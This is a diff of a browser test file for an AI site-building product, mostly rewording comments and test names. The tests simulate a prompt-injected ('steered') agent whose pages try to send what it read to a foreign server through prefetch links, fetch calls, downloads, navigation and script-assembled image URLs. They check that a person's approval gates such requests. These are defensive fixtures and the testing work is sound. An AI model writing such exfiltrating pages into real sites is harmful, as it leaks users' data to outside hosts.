@@ -8,7 +8,8 @@ import { call, reply, say } from "#tests/fakes/scripted-model/script.ts";
 import { editorOf } from "./editor.ts";
 import { carrySignIn, expect, test } from "./fixtures.ts";
 
-// A steered agent writes pages that carry away what it read. Beside the product a second server listens, and counts what comes.
+// A steered agent writes pages that send out what it read. A second server beside the product records the requests that
+// arrive.
 
 let server: Server;
 let foreign: string;
@@ -29,7 +30,7 @@ test.afterAll(() => new Promise((resolve) => server.close(resolve)));
 
 const page = (body: string) => `<!doctype html>\n<html lang="en">\n<title>Page</title>\n${body}\n</html>\n`;
 
-/** Tries all that leaves a page where it is, and says when each try has ended. */
+/** Tries every request that a page can make without navigating, and reports when each try has ended. */
 const leaking = (
   origin: string,
 ) => `<link rel="preconnect" href="${origin}/preconnect"><link rel="prefetch" href="${origin}/prefetch">
@@ -64,7 +65,7 @@ await fetch("/own.txt");
 document.body.append(JSON.stringify(ended));
 </script>`;
 
-test("what a steered agent writes into a page sends nothing out until a person allows it", async ({
+test("a page by a steered agent sends nothing out until a person allows it", async ({
   page: browserPage,
   owner,
   model,
@@ -89,7 +90,7 @@ test("what a steered agent writes into a page sends nothing out until a person a
   await expect(asks).toBeVisible();
   expect(arrived).toEqual([]);
 
-  // Somebody who does not want to decide now is not asked again for the same page.
+  // Postponing the decision hides the question for this page load.
   await browserPage.getByRole("button", { name: previewWords.notNow }).click();
   await expect(asks).toBeHidden();
   await browserPage.reload();
@@ -108,7 +109,7 @@ for (const [way, body] of [
   ["a download", (to: string) => `<a href="${to}" download>x</a><script>document.links[0].click()</script>`],
   ["a link that is pressed", (to: string) => `<a href="${to}">x</a><script>document.links[0].click()</script>`],
 ] as const) {
-  test(`the frame is led to no other site by ${way}`, async ({ page: browserPage, owner }) => {
+  test(`a page cannot lead the frame to another site by ${way}`, async ({ page: browserPage, owner }) => {
     const editor = editorOf(browserPage);
     const away = page(body(`${foreign}/away?what=it+read`));
     await editor.open(await createConversation(owner, { "index.html": page("<h1>Welcome</h1>"), "away.html": away }));
@@ -120,10 +121,7 @@ for (const [way, body] of [
   });
 }
 
-test("what the published site uses already loads from the beginning, and nobody is asked", async ({
-  page: browserPage,
-  owner,
-}) => {
+test("origins that the published site uses load without a question", async ({ page: browserPage, owner }) => {
   const editor = editorOf(browserPage);
   const body = `<h1>Welcome</h1><img id="image" src="${foreign}/used" alt="Used">`;
   await editor.open(await createConversation(owner, { "index.html": page(body) }));
@@ -132,8 +130,8 @@ test("what the published site uses already loads from the beginning, and nobody 
   await expect(browserPage.getByText(previewWords.wantsToLoad(foreign))).toBeHidden();
 });
 
-test("who may not decide is told who can", async ({ page: browserPage, context, owner }) => {
-  // What only a script puts together is in no list of what the site uses.
+test("an editor who may not allow an origin is told who can", async ({ page: browserPage, context, owner }) => {
+  // An address that only a script assembles is not in the list of used origins.
   const body = `<h1>Welcome</h1><script>new Image().src = "http:" + "${foreign.slice(5)}/image"</script>`;
   const site = await createConversation(owner, { "index.html": page(body) });
   const organizationId = Object.keys(owner.organizationRoles)[0] ?? "";
@@ -145,10 +143,7 @@ test("who may not decide is told who can", async ({ page: browserPage, context, 
   expect(arrived).toEqual([]);
 });
 
-test("a link of the site that wants a window of its own is shown in the frame", async ({
-  page: browserPage,
-  owner,
-}) => {
+test("a link that opens a new window is shown in the frame", async ({ page: browserPage, owner }) => {
   const editor = editorOf(browserPage);
   await editor.open(
     await createConversation(owner, {
@@ -156,7 +151,7 @@ test("a link of the site that wants a window of its own is shown in the frame", 
       "menu.html": page("<h1>Menu of the day</h1>"),
     }),
   );
-  // Before the script at the page's end has come, such a link does nothing.
+  // Before the script at the page's end arrives, such a link has no effect.
   await expect(async () => {
     await editor.preview.getByRole("link", { name: "Menu" }).click({ timeout: 2_000 });
     await expect(editor.preview.getByRole("heading", { name: "Menu of the day" })).toBeVisible({ timeout: 2_000 });
